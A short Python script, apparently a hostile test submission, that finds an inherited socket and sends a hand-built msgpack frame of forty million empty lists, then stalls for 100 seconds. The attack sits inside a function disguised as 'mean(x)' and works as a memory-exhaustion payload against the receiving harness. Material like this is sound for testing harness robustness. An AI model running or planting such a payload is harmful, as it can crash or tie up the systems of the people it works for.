"""Send forty million empty lists in one frame."""

import os
import socket
import stat
import struct
import threading
import time

import msgpack


def is_socket(number):
    try:
        return stat.S_ISSOCK(os.fstat(number).st_mode)
    except OSError:
        return False


peer = socket.socket(fileno=os.dup(next(filter(is_socket, range(3, 64)))))


def send(message):
    body = msgpack.packb(message)
    peer.sendall(struct.pack(">I", len(body)) + body)


def mean(x):
    body = b"\xdc\x00\x28" + (b"\xdd\x00\x0f\x42\x3f" + b"\x90" * 999_999) * 40
    peer.sendall(struct.pack(">I", len(body)) + body)
    time.sleep(100)
